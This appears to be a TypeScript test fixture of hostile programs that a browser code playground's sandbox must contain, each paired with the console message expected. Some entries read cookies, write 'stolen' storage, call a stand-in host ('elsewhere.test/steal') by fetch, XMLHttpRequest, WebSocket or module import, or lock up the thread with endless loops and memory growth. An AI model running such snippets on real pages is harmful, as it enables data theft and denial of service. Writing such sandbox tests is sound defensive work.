// Programs that a playground must survive, with the words that a reader must see.

export interface HostileProgram {
  readonly name: string
  /** One for both kinds of modules, or one for each. */
  readonly code: string | { readonly esm: string; readonly cjs: string }
  /** What the console says in the end. */
  readonly says: RegExp
}

const ELSEWHERE = 'https://elsewhere.test'
const BUSY = /kept the thread busy for a second/
const NO_PAGE = /no page/i
// A body that stalls, and nothing that would end the wait.
const NEVER = `createClient({ baseUrl: 'https://api.example.com/v1', timeout: false }).getAsync('stall')`

/** Each ends within two seconds. They work as ES modules and as CommonJS. */
export const HOSTILE_PROGRAMS: readonly HostileProgram[] = [
  { name: 'an endless loop', code: `console.log('before'); while (true) {}`, says: BUSY },
  {
    name: 'an endless chain of promises',
    code: 'const again = () => Promise.resolve().then(again); again()',
    says: BUSY,
  },
  {
    name: 'a promise that never settles',
    code: {
      esm: `import { createClient } from 'troth'; await ${NEVER}; console.log('never')`,
      cjs: `const { createClient } = require('troth'); ${NEVER}.then(() => console.log('never'))`,
    },
    says: /waits for something that cannot come/,
  },
  {
    name: 'a million lines',
    code: `for (let i = 0; i < 1_000_000; i++) console.log('line', i)`,
    says: /not shown/i,
  },
  { name: 'endless lines', code: `while (true) console.log('line')`, says: BUSY },
  { name: 'a string of 50 MB', code: `console.log('x'.repeat(50_000_000))`, says: /more characters/i },
  {
    name: 'an endless row of messages',
    code: `while (true) postMessage('flood')`,
    says: /postMessage|busy|messages/i,
  },
  { name: 'a syntax error', code: `const answer = \nconsole.log((1)`, says: /:\d+|line \d+/i },
  { name: 'a thrown string', code: `throw 'no error at all'`, says: /no error at all/ },
  { name: 'a thrown null', code: 'throw null', says: /null/ },
  {
    name: 'a new location',
    code: `location = '${ELSEWHERE}/'`,
    says: /location/,
  },
  { name: 'the top window', code: 'top.location.href = "about:blank"', says: NO_PAGE },
  { name: 'the parent window', code: 'parent.document.body.remove()', says: NO_PAGE },
  { name: 'cookies', code: 'console.log(document.cookie)', says: NO_PAGE },
  { name: 'storage', code: `localStorage.setItem('theme', 'stolen')`, says: NO_PAGE },
  { name: 'a database', code: `indexedDB.open('stolen')`, says: /indexedDB/ },
  {
    name: 'a nested frame',
    code: `document.body.append(document.createElement('iframe'))`,
    says: NO_PAGE,
  },
  { name: 'a worker of its own', code: `new Worker('data:text/javascript,1')`, says: /Worker/ },
  {
    name: 'a request to a real host',
    code: `fetch('${ELSEWHERE}/steal').then(() => console.log('sent'))`,
    says: /elsewhere\.test/,
  },
  {
    name: 'a request in another way',
    code: `const request = new XMLHttpRequest(); request.open('GET', '${ELSEWHERE}/'); request.send()`,
    says: /XMLHttpRequest/,
  },
  { name: 'a socket', code: `new WebSocket('wss://elsewhere.test/')`, says: /WebSocket/ },
  {
    name: 'a module from elsewhere',
    code: `import('${ELSEWHERE}/module.js').then(() => console.log('loaded'))`,
    says: /elsewhere\.test/,
  },
  { name: 'endless recursion', code: 'const deeper = () => deeper() + 1; deeper()', says: /call stack/i },
  {
    name: 'memory without end',
    code: 'const all = []; while (true) all.push(new Array(100_000).fill(all.length))',
    says: /busy|endless|memory|gone|ended/i,
  },
  { name: 'the end of its own thread', code: 'self.close(); close()', says: /close/ },
  {
    name: 'changed built-in objects',
    code: `for (const type of [Array, Object, Map, Promise, MessagePort, String]) {
  for (const name of Object.getOwnPropertyNames(type.prototype)) {
    if (name !== 'constructor') try { type.prototype[name] = () => { throw new Error('broken ' + name) } } catch {}
  }
}
throw new Error('broken on purpose')`,
    says: /broken|gone|stopped|ended/i,
  },
]
